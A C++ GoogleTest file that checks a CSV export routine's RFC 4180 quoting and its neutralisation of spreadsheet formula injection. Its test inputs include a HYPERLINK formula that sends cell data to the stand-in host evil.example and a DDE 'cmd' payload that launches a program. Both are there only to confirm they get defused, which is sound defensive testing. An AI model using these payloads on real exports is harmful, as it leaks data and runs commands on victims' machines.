// CSV export fields: RFC 4180 quoting and OWASP's formula-injection
// neutralisation (a leading = + - @ tab or CR gets a single quote).
#include "timevault/core/csv.h"

#include <gtest/gtest.h>

namespace timevault::csv {
namespace {

TEST(CsvField, PlainValuesAreWrittenAsTheyAre) {
  EXPECT_EQ(Field("item 1"), "item 1");
  EXPECT_EQ(Field(""), "");
  EXPECT_EQ(Field("a=b"), "a=b");  // only a leading trigger counts
  EXPECT_EQ(Field("x@example.com"), "x@example.com");
}

TEST(CsvField, FormulaTriggersAreNeutralisedWithAQuote) {
  EXPECT_EQ(Field("=1+1"), "'=1+1");
  EXPECT_EQ(Field("=HYPERLINK(\"http://evil.example/?\"&A1)"), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
  EXPECT_EQ(Field("+1+cmd|' /C calc'!A0"), "'+1+cmd|' /C calc'!A0");
  EXPECT_EQ(Field("-2+3"), "'-2+3");
  EXPECT_EQ(Field("@SUM(A1:A9)"), "'@SUM(A1:A9)");
  EXPECT_EQ(Field("\t=1"), "'\t=1");
  EXPECT_EQ(Field("\r=1"), "\"'\r=1\"");  // CR also needs quoting; the quote goes inside
  EXPECT_EQ(Field("=a,b"), "\"'=a,b\"");
  EXPECT_EQ(Field("-"), "'-");
  EXPECT_EQ(Field("+"), "'+");
  EXPECT_EQ(Field("-1e"), "'-1e");      // not a number
  EXPECT_EQ(Field("-0x10"), "'-0x10");  // not a decimal number
  EXPECT_EQ(Field("-1-1"), "'-1-1");
}

TEST(CsvField, PlainNumbersStayNumbers) {
  EXPECT_EQ(Field("-5"), "-5");
  EXPECT_EQ(Field("+7"), "+7");
  EXPECT_EQ(Field("-12.50"), "-12.50");
  EXPECT_EQ(Field("-1.5e-3"), "-1.5e-3");
  EXPECT_EQ(Field("+2E+10"), "+2E+10");
}

TEST(CsvField, QuotingFollowsRfc4180) {
  EXPECT_EQ(Field("a,b"), "\"a,b\"");
  EXPECT_EQ(Field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(Field("two\nlines"), "\"two\nlines\"");
  std::string out = "x,";
  AppendField(&out, "=1");
  EXPECT_EQ(out, "x,'=1");
}

}  // namespace
}  // namespace timevault::csv
